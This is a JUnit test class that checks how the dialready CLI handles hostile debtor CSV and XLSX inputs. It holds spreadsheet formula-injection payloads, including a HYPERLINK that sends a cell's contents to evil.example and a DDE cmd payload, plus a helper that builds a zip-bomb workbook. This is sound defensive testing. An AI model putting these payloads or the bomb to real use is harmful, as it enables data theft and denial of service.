package io.dialready.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.dialready.run.ExitCodes;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Enumeration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/**
 * The hostile files of {@code src/test/resources/hostile/} (and the two big ones generated here, see the README there),
 * one test each: the exact message and exit code, within a time limit so that a hang fails. The two that could exhaust
 * memory run in their own JVM with a 64 MiB heap, the honest way to show they do not.
 */
class HostileInputTest {

    private static final Duration LIMIT = Duration.ofSeconds(60);
    private static final String HEADER =
            "CONTRATO;CPF;NOME;VALOR;VENCIMENTO;DDD1;FONE1;DDD2;FONE2;TELEFONES;EMAIL;CIDADE;UF";

    @TempDir
    Path dir;

    Path out;

    @BeforeEach
    void folders() {
        out = dir.resolve("out");
    }

    private Path spec(String inputKeys) throws Exception {
        return Files.writeString(dir.resolve("job.yml"), """
                country: BR
                input:
                  path: none.csv
                %s
                columns:
                  key: CONTRATO
                  name: NOME
                  amount: VALOR
                  due_date: VENCIMENTO
                phones:
                  - ddd: DDD1
                    number: FONE1
                  - column: TELEFONES
                """.formatted(inputKeys));
    }

    private Path copy(String name) throws Exception {
        try (InputStream in = getClass().getResourceAsStream("/hostile/" + name)) {
            assertThat(in).as(name).isNotNull();
            Path file = dir.resolve(name);
            Files.copy(in, file);
            return file;
        }
    }

    /** Runs enrich in this JVM on a copy of the corpus file, failing if it takes longer than the limit. */
    private CliRun enrich(Path input, String inputKeys) throws Exception {
        Path spec = spec(inputKeys);
        return assertTimeoutPreemptively(
                LIMIT,
                () -> CliRun.of(
                        "enrich",
                        "--job",
                        spec.toString(),
                        "--input",
                        input.toString(),
                        "--output",
                        out.toString(),
                        "--data",
                        dir.resolve("data").toString(),
                        "--log-file",
                        dir.resolve("log.txt").toString(),
                        "--as-of",
                        "2026-11-23",
                        "--quiet"));
    }

    private record Run(int exitCode, String output) {}

    /** Runs enrich in its own JVM with a small heap; a run that outlives the limit is killed and fails the test. */
    private Run enrichInOwnJvm(Path input, String heap) throws Exception {
        Path spec = spec("");
        Path log = dir.resolve("proc.txt");
        Process p = new ProcessBuilder(ChildJvm.dialready(
                        heap,
                        "enrich",
                        "--job",
                        spec.toString(),
                        "--input",
                        input.toString(),
                        "--output",
                        out.toString(),
                        "--data",
                        dir.resolve("data").toString(),
                        "--log-file",
                        dir.resolve("log.txt").toString(),
                        "--quiet"))
                .redirectErrorStream(true)
                .redirectOutput(log.toFile())
                .start();
        boolean ended = p.waitFor(LIMIT.toSeconds() * 2, TimeUnit.SECONDS);
        if (!ended) {
            p.destroyForcibly().waitFor(10, TimeUnit.SECONDS);
        }
        assertThat(ended).as("ended within the limit: " + Files.readString(log)).isTrue();
        return new Run(p.exitValue(), Files.readString(log));
    }

    private void unreadable(CliRun run, Path input, String why) {
        assertThat(run.err().strip()).isEqualTo("dialready: input unreadable: " + input + ": " + why);
        assertThat(run.exitCode()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
        assertThat(out.resolve(base(input) + ".enriched.csv")).doesNotExist();
    }

    private static String base(Path input) {
        String n = input.getFileName().toString();
        return n.substring(0, n.lastIndexOf('.'));
    }

    private Map<?, ?> report(Path input) throws Exception {
        return JsonMapper.shared()
                .readValue(out.resolve(base(input) + ".report.json").toFile(), Map.class);
    }

    @Test
    void emptyFile() throws Exception {
        Path in = copy("empty.csv");
        unreadable(enrich(in, ""), in, "the file is empty");
    }

    @Test
    void headerOnly() throws Exception {
        Path in = copy("header-only.csv");
        unreadable(enrich(in, ""), in, "has a header but no data rows");
    }

    @Test
    void onlyBlankLines() throws Exception {
        Path in = copy("blank-lines.csv");
        unreadable(enrich(in, ""), in, "the file holds only blank lines");
    }

    @Test
    void binaryFile() throws Exception {
        Path in = copy("binary.csv");
        unreadable(enrich(in, ""), in, "this is a binary file, not CSV text (it contains NUL bytes)");
    }

    @Test
    void windows1252BytesInAFileDeclaredUtf8() throws Exception {
        Path in = copy("wrong-encoding.csv");
        unreadable(
                enrich(in, "  encoding: UTF-8"),
                in,
                "has bytes that are not valid UTF-8 at line 2 (set input.encoding, e.g. windows-1252)");
    }

    @Test
    void utf16WithoutByteOrderMarkIsReadAsUtf16() throws Exception {
        Path in = copy("utf16-no-bom.csv");
        CliRun run = enrich(in, "");
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("rows: 2 read, 2 enriched, 0 rejected");
        assertThat(report(in).get("input_encoding")).isEqualTo("UTF-16LE");
        assertThat(Files.readString(out.resolve("utf16-no-bom.enriched.csv"))).contains("JOSÉ DA CONCEIÇÃO");
    }

    @Test
    void raggedRowsAreRejectedByLineAndTheRestEnriched() throws Exception {
        Path in = copy("ragged.csv");
        // 4 of its 7 rows are rejected, more than the default 50% that withholds the dialer file (issue 12, item 2)
        CliRun run = enrich(in, "run:\n  max_rejected_percent: 60");
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("rows: 7 read, 3 enriched, 4 rejected");
        assertThat(Files.readAllLines(out.resolve("ragged.rejects.csv")))
                .containsExactly(
                        "line,column,value,reason",
                        "3,,\"R2;222;CURTA;50,00\",\"expected 13 fields, found 4\"",
                        "4,,\"R3;333;LONGA;50,00;01/11/2026;11;98765-4322;;;;;SP;SP;extra;extra2\",\"expected 13 fields, found 15\"",
                        "6,,;,\"expected 13 fields, found 2\"",
                        "7,,R5,\"expected 13 fields, found 1\"");
    }

    @Test
    void aQuoteNeverClosedRejectsItsLineAndTheRowsAfterItAreRead() throws Exception {
        Path in = copy("unterminated-quote.csv");
        CliRun run = enrich(in, "");
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("rows: 3 read, 2 enriched, 1 rejected");
        // issue 12: the line with the stray quote is rejected alone, naming where the file ends; Q3 is read as a row
        assertThat(Files.readAllLines(out.resolve("unterminated-quote.rejects.csv")))
                .containsExactly(
                        "line,column,value,reason",
                        "3,,\"Q2;222;\"\"ABERTA;50,00;01/11/2026;11;98765-4322;;;;;SP;SP\",\"stray quote: the quoted field"
                                + " opened at line 3 would run over line 4, a whole row on its own; it is never closed (the"
                                + " file ends at line 4); this line is rejected and the lines after it are read as rows\"");
        assertThat(Files.readString(out.resolve("unterminated-quote.enriched.csv")))
                .contains("Q3,333,TRES");
    }

    @Test
    void formulaLikeCellsAreNeutralisedInTheOutputs() throws Exception {
        Path in = copy("formulas.csv");
        CliRun run = enrich(in, "");
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("rows: 4 read, 4 enriched, 0 rejected");
        String enriched = Files.readString(out.resolve("formulas.enriched.csv"));
        assertThat(enriched)
                .contains("'=1+1,111,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"Clique aqui\"\")\"")
                .contains("'+55 11 98765-4322,'@evil.example,'-CIDADE,SP")
                .contains("'+MARIA,\"'-50,00\"")
                .contains("'@SUM(A1:A9)")
                .contains("'\t11 97777-6666")
                .contains(",'=cmd|' /C calc'!A0,")
                .contains("'@KEY,444,'-");
        String dialer = Files.readString(out.resolve("formulas.dialer.csv"));
        // our own E.164 column stays raw; the debtor key copied from the input does not
        assertThat(dialer).contains("'=1+1,1,+5511").doesNotContain("\n=1+1,");
        for (String line : dialer.split("\n")) {
            assertThat(line).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("-");
        }
    }

    @Test
    void truncatedWorkbook() throws Exception {
        Path in = copy("truncated.xlsx");
        unreadable(
                enrich(in, ""),
                in,
                "is cut short: its ZIP container has no end (an upload or copy that was"
                        + " interrupted?); copy the file again");
    }

    @Test
    void textFileNamedXlsx() throws Exception {
        Path in = copy("text-named.xlsx");
        unreadable(
                enrich(in, ""),
                in,
                "holds text, not an XLSX workbook (a CSV file named .xlsx? name it .csv or"
                        + " set input.format: csv)");
    }

    /** A 20 KiB workbook whose sheet inflates to 2 GiB: refused early, in a 64 MiB heap, without inflating it. */
    @Test
    void zipBombShapedWorkbook() throws Exception {
        Path in = zipBomb(dir.resolve("zip-bomb.xlsx"), 2L << 30);
        assertThat(Files.size(in)).isLessThan(5L << 20);
        Run run = enrichInOwnJvm(in, "64m");
        assertThat(run.output().strip())
                .isEqualTo("dialready: input unreadable: " + in + ": refused: a part of the"
                        + " workbook (xl/worksheets/sheet1.xml) inflates to more than 100 times its compressed size, the mark of"
                        + " a zip bomb");
        assertThat(run.exitCode()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
    }

    /** A row holding a 10 MiB cell after a good one: the run stops at it, in a 64 MiB heap, with the line named. */
    @Test
    void tenMegabyteCell() throws Exception {
        Path in = dir.resolve("huge-cell.csv");
        try (OutputStream os = Files.newOutputStream(in)) {
            os.write((HEADER + "\r\nH1;111;ANA;10,00;01/11/2026;11;98765-4321;;;;;SP;SP\r\nH2;222;")
                    .getBytes(StandardCharsets.US_ASCII));
            byte[] block = "BIA ".repeat(1024).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 10 * 256; i++) {
                os.write(block);
            }
            os.write(";10,00;01/11/2026;11;98765-4322;;;;;SP;SP\r\nH3;333;CIA;10,00;01/11/2026;;;;;;;SP;SP\r\n"
                    .getBytes(StandardCharsets.US_ASCII));
        }
        Run run = enrichInOwnJvm(in, "64m");
        assertThat(run.output().strip())
                .isEqualTo("dialready: input unreadable: " + in + ": the row starting at line 3"
                        + " is longer than 1,000,000 characters (a debtor row holds a few hundred): a cell of megabytes, or a"
                        + " quote opened and never closed");
        assertThat(run.exitCode()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
        assertThat(out.resolve("huge-cell.enriched.csv")).doesNotExist();
    }

    /**
     * Writes a workbook with the parts of {@code xlsx/carteira-libreoffice.xlsx}, its sheet replaced by a header row
     * followed by {@code inflated} bytes of blanks: a few KiB on disk that inflate to GiBs.
     */
    static Path zipBomb(Path target, long inflated) throws Exception {
        Path source = Path.of("src/test/resources/xlsx/carteira-libreoffice.xlsx");
        try (ZipFile zip = new ZipFile(source.toFile());
                ZipOutputStream os = new ZipOutputStream(Files.newOutputStream(target))) {
            os.setLevel(9);
            List<String> names = new ArrayList<>();
            for (Enumeration<? extends ZipEntry> e = zip.entries(); e.hasMoreElements(); ) {
                names.add(e.nextElement().getName());
            }
            for (String name : names) {
                os.putNextEntry(new ZipEntry(name));
                if (name.equals("xl/worksheets/sheet1.xml")) {
                    os.write(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<worksheet"
                                    + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
                                    + "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>CONTRATO</t></is></c></row>")
                            .getBytes(StandardCharsets.UTF_8));
                    byte[] blanks = new byte[1 << 20];
                    java.util.Arrays.fill(blanks, (byte) ' ');
                    for (long n = 0; n < inflated; n += blanks.length) {
                        os.write(blanks);
                    }
                    os.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
                } else {
                    try (InputStream in = zip.getInputStream(zip.getEntry(name))) {
                        in.transferTo(os);
                    }
                }
                os.closeEntry();
            }
        }
        return target;
    }
}
